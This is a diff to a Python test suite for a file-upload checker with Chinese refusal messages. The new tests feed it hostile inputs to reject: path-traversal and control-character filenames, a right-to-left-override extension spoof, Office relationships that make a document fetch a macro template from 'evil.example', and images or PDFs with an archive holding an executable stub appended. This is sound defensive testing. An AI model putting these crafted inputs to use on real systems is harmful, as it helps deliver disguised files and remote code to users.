@@ -82,8 +82,10 @@ def test_it_refuses_by_name_and_size(settings: Any) -> None:
     assert "另存为 docx" in refused("a.doc", b"\xd0\xcf")
     assert "含有宏" in refused("a.xlsm", b"PK")
     assert "解压后逐个" in refused("a.zip", b"PK")
-    for name in (" ", "../a.txt", "a\\b.txt", "a\0.txt", "a" * 200 + ".txt"):
-        assert "文件名" in refused(name, b"x")
+    for name in (" ", "../a.txt", "a\\b.txt", "a" * 200 + ".txt", "长" * 200 + ".txt"):
+        assert "文件名为空、过长" in refused(name, b"x")
+    for name in ("a\0.txt", "a\n.txt", "\x1b[31m.txt", "照片\u202egpj.txt", "a\u200b.txt", "\ufeffa.txt", "\ud800.txt"):
+        assert "看不见的控制字符" in refused(name, b"x")
     settings.HENGPING_UPLOAD_BYTES = 1024 * 1024
     assert check_upload("a.txt", b"x" * 1024 * 1024) == "text/plain"
     assert "超过1MB" in refused("a.txt", b"x" * (1024 * 1024 + 1))
@@ -136,6 +138,30 @@ def test_it_refuses_half_a_pdf() -> None:
 )
 def test_it_refuses_an_office_document_with(members: dict[str, bytes], said: str) -> None:
     assert said in refused("a.docx", office(members))
+
+
+RELATION = (
+    b'<Relationship Id="r1" Type="http://schemas/officeDocument/relationships/%s" Target="%s" TargetMode="External"/>'
+)
+
+
+@pytest.mark.parametrize("kind", [b"attachedTemplate", b"oleObject", b"frame", b"subDocument"])
+def test_it_refuses_a_document_that_fetches_something(kind: bytes) -> None:
+    fetching = office({"word/_rels/settings.xml.rels": RELATION % (kind, b"http://evil.example/x.dotm")})
+    assert "从别处取用" in refused("a.docx", fetching)
+
+
+def test_a_link_in_a_document_fetches_nothing() -> None:
+    links = RELATION % (b"hyperlink", b"https://www.example.org/")
+    own = RELATION.replace(b' TargetMode="External"', b"") % (b"attachedTemplate", b"../template.dotx")
+    assert check_upload("a.docx", office({"word/_rels/document.xml.rels": links + own})) == DOCX
+
+
+@pytest.mark.parametrize("name", ["a.pdf", "a.jpg", "a.png", "a.mp4", "a.csv"])
+def test_it_refuses_what_is_two_files_at_once(name: str) -> None:
+    """A picture or paper that is also an archive: each program would open another file."""
+    assert "末尾附有压缩包" in refused(name, GOOD[name] + office({"program.exe": b"MZ"}))
+    assert check_upload(name, GOOD[name])
 
 
 def test_it_refuses_another_document_under_this_name() -> None:
